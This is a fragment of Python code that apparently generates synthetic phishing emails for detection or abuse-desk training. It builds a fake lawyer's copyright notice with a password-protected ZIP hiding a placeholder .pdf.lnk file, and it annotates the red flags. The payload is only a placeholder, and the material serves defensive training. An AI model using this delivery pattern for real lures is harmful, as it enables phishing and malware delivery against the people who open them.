    h, post = hdrs_outlook_smtp(m.t, frm, "abuse@example.com", subj, msgid, rng=r)
    bnd = outlook_classic_boundary(r, m.t)
    name = "Beweisdokumentation_Az_2026-4471-BT.pdf.lnk"
    z = zipc.make_zip([(name, U.placeholder("would be a .lnk shortcut launching a downloader"), (2026, 10, 29, 10, 58, 2))],
                      password=pw, seed=m.key)
    m.zip_password = pw
    m.headers = h
    m.post_headers = post
    m.body = M.multipart("mixed", [
        alt(text, html, cs, "quoted-printable", "quoted-printable", bnd(1)),
        M.attachment(z, "application/x-zip-compressed", "Beweisdokumentation_Az_2026-4471-BT.zip",
                     describe="ZipCrypto-encrypted ZIP (password %s in body) containing %s (one-line placeholder)" % (pw, name)),
    ], bnd(0))
    m.what = "Fake lawyer copyright notice to the abuse desk with a password-protected ZIP 'evidence' archive (contains a .pdf.lnk)"
    m.why = ("Law firm domain not matching any real firm, sent from a shared-hosting account via a foreign client IP, encrypted archive with the "
             "password in the same mail to defeat scanning, double extension .pdf.lnk (shortcut malware loader); compare the genuine takedown letter business/08")
    return m


ALL = [a01, a02, a03, a04, a05, a06, a07, a08]
